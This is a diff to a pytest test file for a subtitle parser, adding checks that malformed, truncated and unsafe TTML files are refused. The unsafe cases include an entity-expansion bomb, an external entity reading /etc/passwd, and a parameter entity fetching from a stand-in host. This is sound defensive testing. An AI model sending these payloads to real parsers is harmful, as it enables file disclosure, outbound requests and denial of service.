@@ -131,13 +131,47 @@ def test_cues_are_put_in_order_and_other_blocks_are_left(tmp_path) -> None:
     assert read(tmp_path, text) == [("Hi there.", None, ""), ("Bye <3", "Bob & Co", "loud")]
 
 
-@pytest.mark.parametrize("content", [b"", b"no cues here", b"\xff\xfe\x00", b"1\n00:00:01,000 --> 00:00:02,000\n\n"])
+@pytest.mark.parametrize(
+    "content", [b"", b"no cues here", b"\xff\xfe\x00", bytes(4096), b"1\n00:00:01,000 --> 00:00:02,000\n\n"]
+)
 def test_what_holds_no_subtitles_is_refused(content, tmp_path) -> None:
     path = tmp_path / "talk.srt"
     path.write_bytes(content)
     for bad in (path, tmp_path / "missing.srt", tmp_path):
         with pytest.raises(UsageError, match=bad.name):
             read_subtitles(bad)
+
+
+BOMB = (
+    "<!DOCTYPE tt [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{10 * f'&a{n - 1};'}'>" for n in range(1, 10)) + "]>"
+)
+UNSAFE = {
+    "entities in entities": (BOMB, "&a9;"),
+    "one entity": ("<!DOCTYPE tt [<!ENTITY a 'ha'>]>", "&a;"),
+    "a long entity": (f"<!DOCTYPE tt [<!ENTITY a '{100_000 * 'a'}'>]>", 100 * "&a;"),
+    "another file": ("<!DOCTYPE tt [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&a;"),
+    "a parameter": ("<!DOCTYPE tt [<!ENTITY % a SYSTEM 'http://192.0.2.7/a'> %a;]>", "Hello."),
+}
+
+
+@pytest.mark.parametrize("name", UNSAFE)
+@pytest.mark.parametrize("head", ['<?xml version="1.0"?>', "", "\n<?XML version='1.0'?>"])
+def test_xml_that_grows_or_reads_elsewhere_is_refused_at_once(name, head, tmp_path) -> None:
+    document, content = UNSAFE[name]
+    body = f'<tt xmlns="http://www.w3.org/ns/ttml"><body><div><p begin="1s" end="2s">{content}</p></div></body></tt>'
+    path = tmp_path / "bomb.ttml"
+    path.write_text(head + document + body, encoding="utf-8")
+    began = time.monotonic()
+    with pytest.raises(UsageError, match=r"bomb\.ttml cannot be read: it"):
+        read_subtitles(path)
+    assert time.monotonic() - began < 1
+
+
+def test_xml_that_is_cut_is_told(tmp_path) -> None:
+    path = tmp_path / "cut.ttml"
+    path.write_text('<tt xmlns="http://www.w3.org/ns/ttml"><body><div><p begin="1s" end="2s">Hel', encoding="utf-8")
+    with pytest.raises(UsageError, match="it may be cut short"):
+        read_subtitles(path)
 
 
 def test_captions_without_full_stops_are_cut(tmp_path) -> None:
